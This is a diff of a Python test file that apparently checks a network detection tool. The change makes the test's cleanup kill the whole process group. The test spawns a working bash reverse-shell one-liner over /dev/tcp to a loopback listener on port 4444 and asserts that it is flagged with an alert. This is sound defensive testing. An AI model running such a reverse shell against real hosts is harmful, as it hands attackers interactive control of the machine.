@@ -7,6 +7,7 @@ from __future__ import annotations
 import json
 import os
 import shutil
+import signal
 import subprocess
 import sys
 import time
@@ -98,6 +99,7 @@ def test_reverse_shell_to_a_listener() -> None:
         shell = subprocess.Popen(
             ["bash", "-c", "bash -i >& /dev/tcp/127.0.6.6/4444 0>&1"],
             stderr=subprocess.DEVNULL,
+            start_new_session=True,
         )
         try:
             wait_until(lambda: attacker.accepted)
@@ -112,8 +114,8 @@ def test_reverse_shell_to_a_listener() -> None:
             assert shells[0]["network"]["dport"] == 4444
             assert shells[0]["action"] == "alert"  # scan never acts
         finally:
-            kill(shell)
-            subprocess.run(["pkill", "-f", "dev/tcp/127.0.6.6"], check=False)
+            os.killpg(shell.pid, signal.SIGKILL)  # the shell and everything it ran
+            shell.wait()
 
 
 def test_ssh_remote_forward_to_a_real_sshd() -> None:
